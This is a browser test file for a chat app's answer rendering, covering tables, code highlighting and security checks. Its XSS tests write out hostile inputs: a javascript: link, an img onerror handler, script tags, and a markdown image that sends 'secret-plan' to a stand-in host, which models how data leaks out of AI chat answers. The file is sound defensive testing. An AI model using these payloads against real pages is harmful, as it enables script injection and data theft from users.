"""Answers as the browser renders them: GFM tables, highlighted code with a working Copy code
button, and hostile answers whose HTML, scripts and javascript: links never come alive."""

from __future__ import annotations

from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import sign_up
from tests.e2e.test_chat_experience import ANSWER, ask_and_wait, clipboard

pytestmark = pytest.mark.browser


def test_tables_and_highlighted_code_with_copy_code(page, app_server):
    sign_up(page, app_server.url)
    ask_and_wait(page, "Show me a table and some code")
    answer = page.locator(ANSWER)
    table = answer.locator("table")
    expect(table).to_have_count(1)
    expect(table.locator("th").first).to_have_text("Aspect")
    expect(table.locator("tbody tr")).to_have_count(3)
    code = answer.locator("pre").first
    expect(code).to_contain_text("def summarize(text: str, limit: int = 80) -> str:")
    # Highlighted: the code is split into styled tokens, keywords coloured unlike plain text.
    colours = code.evaluate("el => new Set([...el.querySelectorAll('span')].map(s => getComputedStyle(s).color)).size")
    assert colours >= 3, colours
    expect(answer.get_by_role("heading", name="Key points")).to_be_visible()
    answer.get_by_role("button", name="Copy code").click()
    copied = clipboard(page)
    assert copied.startswith("QUESTION = 'Show me a table and some code'")
    assert 'def summarize(text: str, limit: int = 80) -> str:\n    """Return the first sentence' in copied
    assert "```" not in copied


def test_hostile_answers_render_as_text_and_never_run(page, app_server):
    sign_up(page, app_server.url)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # The emulator echoes the question into its answer, and #fault:html adds raw HTML, <script>,
    # <img onerror>, an <iframe> and a javascript: anchor of its own.
    ask_and_wait(
        page,
        'Check [click me](javascript:window.__pwned=1) and <img src=x onerror="window.__pwned=2"> '
        "and <script>window.__pwned=3</script> #fault:html",
    )
    answer = page.locator(ANSWER)
    expect(answer).to_contain_text("Raw HTML test:")
    for tag in ("script", "img", "iframe", "b", "object", "embed"):
        expect(answer.locator(tag)).to_have_count(0)
    expect(answer).to_contain_text("<b>not bold</b>")  # shown as text
    expect(answer).to_contain_text('<script>alert("fabrix-xss")</script>')
    # No link from the answer can run script: only http(s) and mailto targets become links.
    hrefs = answer.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href') || '')")
    assert all(h.startswith(("http://", "https://", "mailto:")) for h in hrefs), hrefs
    click_me = answer.get_by_text("click me", exact=True).first
    expect(click_me).to_be_visible()
    url = page.url
    click_me.click()
    page.wait_for_timeout(500)
    assert page.url == url
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert dialogs == []
    # Nothing from the answer reached the rest of the page either.
    assert (
        page.locator("script:not([src])").evaluate_all(
            "scripts => scripts.filter(s => s.textContent.includes('__pwned') || s.textContent.includes('fabrix-xss')).length"
        )
        == 0
    )
    page.reload()
    expect(page.locator(ANSWER)).to_contain_text("<b>not bold</b>")
    expect(page.locator(ANSWER).locator("img")).to_have_count(0)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert dialogs == []


def test_safe_links_open_in_a_new_tab_without_access_to_this_page(page, app_server):
    sign_up(page, app_server.url)
    ask_and_wait(page, "Read [the docs](https://example.com/docs) please")
    link = page.locator(ANSWER).get_by_role("link", name="the docs").first
    expect(link).to_have_attribute("href", "https://example.com/docs")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_an_answer_cannot_make_the_browser_load_anything_from_elsewhere(page, app_server):
    """A markdown image would be fetched the moment it shows, carrying data in its address."""
    sign_up(page, app_server.url)
    own = urlsplit(app_server.url).netloc
    elsewhere: list[str] = []  # requests to other hosts that the browser did not refuse to send
    blocked: list[str] = []
    page.on("request", lambda r: elsewhere.append(r.url) if urlsplit(r.url).netloc not in (own, "") else None)
    page.on("requestfailed", lambda r: blocked.append(r.url) if r.failure == "csp" else None)
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    ask_and_wait(
        page,
        "Summarise ![chart](http://127.0.0.2:9/leak.png?q=secret-plan) and "
        '<link rel="stylesheet" href="http://127.0.0.2:9/x.css"> <script src="http://127.0.0.2:9/x.js"></script> '
        '<img src="http://127.0.0.2:9/y.png"> #fault:html',
    )
    answer = page.locator(ANSWER).last
    link = answer.get_by_role("link", name="Image: chart")
    expect(link).to_have_attribute("href", "http://127.0.0.2:9/leak.png?q=secret-plan")
    expect(answer.locator("img")).to_have_count(0)
    page.reload()
    expect(page.locator(ANSWER).last.get_by_role("link", name="Image: chart")).to_be_visible()
    # Even what the page itself might be tricked into loading: the policy allows this origin only.
    page.evaluate("() => { const i = new Image(); i.src = 'http://127.0.0.2:9/probe.png'; document.body.append(i); }")
    page.wait_for_timeout(500)
    assert "http://127.0.0.2:9/probe.png" in blocked, "the Content-Security-Policy refused the probe"
    assert [u for u in elsewhere if u not in blocked] == [], "nothing left for another host"
    assert violations
    policy = httpx.get(f"{app_server.url}/chat/", timeout=10).headers["content-security-policy"]
    for rule in ("default-src 'self'", "img-src 'self' data: blob:", "connect-src 'self'", "object-src 'none'"):
        assert rule in policy
